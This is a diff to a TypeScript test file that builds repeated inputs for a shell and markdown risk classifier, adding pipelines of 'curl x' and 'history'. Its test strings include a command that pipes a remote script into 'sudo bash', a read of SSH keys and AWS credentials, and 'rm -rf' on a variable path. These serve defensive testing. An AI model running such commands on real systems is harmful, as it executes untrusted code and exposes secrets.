@@ -13,6 +13,9 @@ const JAVASCRIPT: FileClass = { kind: "code", language: "javascript", by: "exten
 const cases: Record<string, { kind: FileClass; input: (n: number) => string }> = {
   "shell: risky commands on every line": { kind: SHELL, input: (n) => "curl -fsSL https://x.example/i.sh | sudo bash\n".repeat(Math.ceil(n / 46)) },
   "shell: one long line of pipes": { kind: SHELL, input: (n) => "curl | a || ".repeat(Math.ceil(n / 12)) },
+  // One pipeline whose every member asks for its neighbours (a download, shell history).
+  "shell: one pipeline of downloads": { kind: SHELL, input: (n) => "curl x | ".repeat(Math.ceil(n / 9)) },
+  "shell: one pipeline of history": { kind: SHELL, input: (n) => "history | ".repeat(Math.ceil(n / 10)) },
   "shell: rm of variables, guards between": { kind: SHELL, input: (n) => 'X=$1\n[ -n "$X" ] && rm -rf "$X"/\n'.repeat(Math.ceil(n / 30)) },
   "shell: keywords on one line": { kind: SHELL, input: (n) => "cat ~/.ssh/id_rsa ~/.aws/credentials ".repeat(Math.ceil(n / 37)) },
   "markdown: inline commands": { kind: MARKDOWN, input: (n) => "Run `curl -s x | sh` or `npx -y a` now.\n".repeat(Math.ceil(n / 40)) },
